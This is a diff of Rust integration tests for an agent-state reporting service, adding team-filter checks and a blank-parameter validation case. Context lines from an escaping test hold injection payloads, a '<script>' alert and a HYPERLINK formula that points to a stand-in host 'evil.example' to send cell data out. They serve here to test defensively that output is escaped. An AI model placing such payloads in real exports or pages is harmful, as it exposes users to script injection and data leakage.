@@ -143,8 +143,9 @@ async fn the_report_counts_real_transitions_in_all_three_formats(dialect: Dialec
 #[tokio::test]
 async fn bad_parameters_are_400_problems_naming_the_parameter() {
     let app = TestApp::spawn().await;
-    let cases: [(&[(&str, &str)], &str); 5] = [
+    let cases: [(&[(&str, &str)], &str); 6] = [
         (&[("from", "yesterday")], "from"),
+        (&[("team", "  ")], "team"),
         (&[("from", "2026-11-20"), ("to", "2026-11-19")], "to"),
         (&[("from", "2025-01-01"), ("to", "2026-11-19")], "to"),
         (&[("format", "xml")], "format"),
@@ -380,6 +381,81 @@ async fn a_formula_name_is_text_in_the_csv_and_a_script_name_is_escaped_in_the_h
     assert!(!html.contains("<script"), "no script element: {html}");
     assert!(html.contains("<td>&lt;script&gt;alert(&#x27;name&#x27;)&lt;/script&gt;<br>"));
     assert!(html.contains("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1"));
+}
+
+/// The CSV's rows without their header, by agent id.
+fn csv_rows(text: &str) -> HashMap<String, Vec<String>> {
+    csv::Reader::from_reader(text.as_bytes())
+        .records()
+        .map(|r| {
+            let row: Vec<String> = r.unwrap().iter().map(Into::into).collect();
+            (row[0].clone(), row)
+        })
+        .collect()
+}
+
+#[tokio::test]
+async fn a_teams_report_holds_its_agents_only_with_the_full_reports_figures() {
+    let app = spawn_named(Dialect::V2, |_| {}).await;
+    let moved: Vec<SimAgent> = app.sim.free_agents().into_iter().take(12).collect();
+    for agent in &moved {
+        let target = if agent.state == "PAUSED" {
+            "IDLE"
+        } else {
+            "PAUSED"
+        };
+        let (status, body) = app.set_state(&agent.id, target).await;
+        assert_eq!(status, 200, "{body}");
+    }
+    let team = moved[0].team_id.clone();
+    assert!(
+        moved.iter().any(|a| a.team_id != team),
+        "the changes reach more than one team"
+    );
+    let members: Vec<String> = app
+        .sim
+        .sim
+        .agents()
+        .into_iter()
+        .filter(|a| a.team_id == team)
+        .map(|a| a.id)
+        .collect();
+    // A window that has ended, so open intervals end with it and figures hold still.
+    let from = instant(Utc::now() - Duration::hours(1));
+    let to = instant(Utc::now());
+    let window = [("from", from.as_str()), ("to", to.as_str())];
+    let full_text = fetch(&app, &window).await.text().await.unwrap();
+    let full = csv_rows(&full_text);
+    let shouted = moved[0].team_name.to_uppercase();
+    for asked in [team.as_str(), shouted.as_str()] {
+        let mut params = window.to_vec();
+        params.push(("team", asked));
+        let text = fetch(&app, &params).await.text().await.unwrap();
+        let ours = csv_rows(&text);
+        assert!(ours.contains_key(&moved[0].id), "{asked}: {text}");
+        for (id, row) in &ours {
+            assert!(members.contains(id), "{id} is not of team {asked}");
+            assert_eq!(row, &full[id], "the same figures as in the full report");
+        }
+        let expected = full.keys().filter(|id| members.contains(id)).count();
+        assert_eq!(ours.len(), expected, "every member the full report has");
+        assert!(ours.len() < full.len(), "{full_text}");
+
+        params.push(("format", "json"));
+        let json: Value = fetch(&app, &params).await.json().await.unwrap();
+        assert_eq!(json["agents"].as_array().unwrap().len(), ours.len());
+        let attempts = json["attempts"].as_array().unwrap();
+        assert!(!attempts.is_empty());
+        for attempt in attempts {
+            let id = attempt["agent_id"].as_str().unwrap();
+            assert!(members.iter().any(|m| m == id), "{attempt}");
+        }
+    }
+
+    let mut params = window.to_vec();
+    params.push(("team", "no such team"));
+    let nobody = fetch(&app, &params).await.text().await.unwrap();
+    assert_eq!(nobody.lines().count(), 1, "the header only: {nobody}");
 }
 
 /// Seeds what adherence is computed from, over the two hours from `t0`: `(agent, state
